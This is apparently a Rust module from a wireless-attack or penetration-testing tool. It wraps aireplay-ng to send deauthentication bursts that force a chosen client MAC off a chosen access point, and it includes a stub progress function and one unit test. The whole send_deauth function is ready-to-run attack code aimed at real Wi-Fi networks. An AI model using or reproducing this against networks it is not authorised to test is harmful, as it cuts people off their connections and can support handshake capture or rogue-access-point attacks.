//! Deauthentication bursts through the external injection tool. One
//! bounded burst per call, no retry; success is the tool's exit status.

use std::process::{Command, Stdio};

use anyhow::{bail, Context, Result};

use crate::devices::{Station, WifiAdapter};

pub const DEFAULT_BURST: u32 = 5;

/// Synchronous; returns once the injection tool exits.
pub fn send_deauth(adapter: &WifiAdapter, station: &Station, count: u32) -> Result<()> {
    let status = Command::new("aireplay-ng")
        .arg(&adapter.interface)
        .arg("--deauth")
        .arg(count.to_string())
        .arg("-a")
        .arg(&station.bssid)
        .arg("-c")
        .arg(&station.mac)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .context("failed to run aireplay-ng")?;

    if !status.success() {
        bail!("aireplay-ng exited with {status}");
    }
    Ok(())
}

/// The injection tool exposes no progress channel, so progress is reported
/// as unknown rather than a made-up number. Integrators get `None` until a
/// real channel exists.
pub fn fetch_progress() -> Option<(u32, u32)> {
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn progress_is_honestly_unknown() {
        assert_eq!(fetch_progress(), None);
    }
}
